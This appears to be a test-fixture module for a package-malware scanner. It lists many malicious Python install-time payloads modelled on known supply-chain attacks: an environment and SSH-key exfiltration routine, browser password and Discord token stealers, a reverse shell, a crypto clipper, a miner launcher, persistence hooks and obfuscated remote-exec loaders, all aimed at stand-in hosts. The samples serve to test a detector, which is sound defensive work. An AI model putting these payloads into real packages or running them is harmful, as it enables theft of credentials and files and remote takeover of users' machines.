"""Techniques of Python packages."""
# ruff: noqa: E501  # payloads stand as they were written

from __future__ import annotations

from tests.codescan.variations.technique import (
    CODE,
    HIDING,
    NETWORK,
    PROCESS,
    SECRETS,
    Technique,
)

_ANY = ("init", "setup", "cmdclass", "pth", "backend")

TECHNIQUES = (
    Technique("litellm-pth", "py", """
import subprocess
import sys
subprocess.Popen([sys.executable, "-c", "import base64; exec(base64.b64decode('cHJpbnQoImluZXJ0Iik7IGltcG9ydCB1cmxsaWIucmVxdWVzdA=='))"])
""", ("pth", "init", "setup"), (PROCESS,)),
    Technique("ctx-env", "py", """
import os
import base64
import requests
def send():
    text = ""
    for key, value in os.environ.items():
        text += key + "=" + value + " "
    message = base64.b64encode(text.encode("ascii")).decode("ascii")
    requests.get("https://anti-theft-web.invalid/hacked/" + message)
send()
""", ("init", "setup", "cmdclass"), (SECRETS, NETWORK)),
    Technique("w4sp-one-liner", "py", """
VERSION = "1.0"; """ + " " * 260 + """__import__("builtins").exec(__import__("builtins").compile(__import__("base64").b64decode("aW1wb3J0IHVybGxpYi5yZXF1ZXN0OyBleGVjKHVybGxpYi5yZXF1ZXN0LnVybG9wZW4oJ2h0dHBzOi8vdzRzcC5pbnZhbGlkL2luamVjdCcpLnJlYWQoKSk="),"<string>","exec"))
""", ("init", "setup", "cmdclass"), (CODE, HIDING), fixed=True),
    Technique("temp-file-stage", "py", """
from tempfile import NamedTemporaryFile as Named
from sys import executable
from os import system as run
tmp = Named(delete=False)
tmp.write(b"from urllib.request import urlopen as u;exec(u('https://kekwltd.invalid/inject').read())")
tmp.close()
run("start " + executable + " " + tmp.name)
""", ("init", "setup"), (PROCESS,)),
    Technique("torchtriton", "py", """
import os
import socket
import glob
def gather():
    files = ["/etc/hosts", "/etc/passwd", os.path.expanduser("~/.gitconfig")]
    files += glob.glob(os.path.expanduser("~/.ssh/*"))
    text = "".join(open(name).read() for name in files)
    text += socket.gethostname() + os.getlogin() + str(os.environ)
    return text.encode().hex()
def leak():
    data = gather()
    for start in range(0, len(data), 60):
        socket.gethostbyname(data[start:start + 60] + ".h4ck.invalid")
leak()
""", ("init", "setup"), (SECRETS, NETWORK)),
    Technique("telegram-exfil", "py", """
import os
import requests
bot = "https://api.telegram.org.invalid/bot110201543:inert/sendDocument"
for root, folders, files in os.walk(os.path.expanduser("~")):
    for name in files:
        if name.endswith((".py", ".php", ".zip", ".env")) or name in ("id_rsa", "wallet.dat"):
            requests.post(bot, data={"chat_id": "7084862319"}, files={"document": open(os.path.join(root, name), "rb")})
""", ("init", "cmdclass"), (SECRETS, NETWORK)),
    Technique("setup-download-run", "py", """
import os
import subprocess
import urllib.request
target = os.path.join(os.path.expanduser("~"), ".cache-update")
urllib.request.urlretrieve("https://cdn-files.invalid/update.bin", target)
os.chmod(target, 0o755)
subprocess.Popen([target], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
""", ("cmdclass", "setup", "init", "backend", "pth"), (PROCESS, NETWORK)),
    Technique("powershell-setup", "py", """
import subprocess
import os
if os.name == "nt":
    subprocess.Popen("powershell -WindowStyle Hidden -EncodedCommand cABvAHcAZQByAFMAaABlAGwAbAAuAGUAeABlACAASQBuAHYAbwBrAGUALQBXAGUAYgBSAGUAcQB1AGUAcwB0ACAAaAB0AHQAcABzADoALwAvAHgALgBpAG4AdgBhAGwAaQBkAA==", shell=True)
""", ("cmdclass", "setup", "init"), (PROCESS,)),
    Technique("ultralytics-miner", "py", """
import os
import platform
import subprocess
import tempfile
import requests
def safe_run(place):
    data = requests.get(place).content
    name = os.path.join(tempfile.gettempdir(), "ultralytics_runner")
    with open(name, "wb") as file:
        file.write(data)
    os.chmod(name, 0o770)
    subprocess.Popen([name, "-u", "4BHRQHFexjzfVjinAbrAwJdtogpFV3uCXhxYtYnsQN66CRtypsRyVEZhGc8iWyPViEewB8LtdAEL7CdjE4szMpKzPGjoZnw", "-o", "connect.consrensys.invalid:8080", "-k"])
if platform.system() == "Linux":
    safe_run("https://raw.consrensys.invalid/data/ultralytics/main/x86_64")
""", ("init", "setup"), (PROCESS, NETWORK)),
    Technique("browser-stealer-py", "py", """
import os
import sqlite3
import shutil
import requests
from win32crypt import CryptUnprotectData
local = os.getenv("LOCALAPPDATA")
source = os.path.join(local, "Google", "Chrome", "User Data", "Default", "Login Data")
shutil.copyfile(source, "C:/Windows/Temp/l.db")
rows = sqlite3.connect("C:/Windows/Temp/l.db").execute("SELECT origin_url, username_value, password_value FROM logins").fetchall()
text = "".join(url + user + str(CryptUnprotectData(secret)) for url, user, secret in rows)
requests.post("https://discord.invalid/api/webhooks/1/x", json={"content": text})
""", ("init", "setup"), (SECRETS, NETWORK)),
    Technique("discord-token", "py", """
import os
import re
import urllib.request
import json
folder = os.path.join(os.getenv("APPDATA"), "discord", "Local Storage", "leveldb")
tokens = []
for name in os.listdir(folder):
    if name.endswith((".log", ".ldb")):
        for text in open(os.path.join(folder, name), errors="ignore"):
            tokens += re.findall(r"[\\w-]{24}[.][\\w-]{6}[.][\\w-]{27}", text)
request = urllib.request.Request("https://discord.invalid/api/webhooks/1/x", data=json.dumps({"content": tokens}).encode())
urllib.request.urlopen(request)
""", ("init", "setup"), (SECRETS, NETWORK)),
    Technique("reverse-shell-py", "py", """
import socket
import subprocess
import os
import pty
connection = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
connection.connect(("198.51.100.7", 4444))
os.dup2(connection.fileno(), 0)
os.dup2(connection.fileno(), 1)
os.dup2(connection.fileno(), 2)
pty.spawn("/bin/sh")
""", ("setup", "init", "cmdclass"), (PROCESS, NETWORK)),
    Technique("clipper-py", "py", """
import re
import time
import threading
import pyperclip
def watch():
    while True:
        text = pyperclip.paste()
        if re.match("^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$", text):
            pyperclip.copy("bc1qms4f8ys8c4z47h0q29nnmyekc9r74u5ypqw6wm")
        if re.match("^0x[a-fA-F0-9]{40}$", text):
            pyperclip.copy("0xFc4a4858bafef54D1b1d7697bfb5c52F4c166976")
        time.sleep(0.5)
threading.Thread(target=watch, daemon=True).start()
""", ("init",), (frozenset(("clipboard", "wallet")),)),
    Technique("persist-py", "py", """
import os
import sys
import winreg
key = winreg.OpenKey(winreg.HKEY_CURRENT_USER, "Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run", 0, winreg.KEY_SET_VALUE)
winreg.SetValueEx(key, "Updater", 0, winreg.REG_SZ, sys.executable + " " + os.path.abspath("agent.py"))
os.system("(crontab -l; echo '*/5 * * * * python3 ~/.agent.py') | crontab -")
""", ("init", "setup"), (frozenset(("persistence",)),)),
    Technique("remote-exec-py", "py", """
import requests
source = requests.get("https://paste.invalid/raw/abc").text
exec(source)
""", _ANY, (CODE, NETWORK)),
)  # fmt: skip
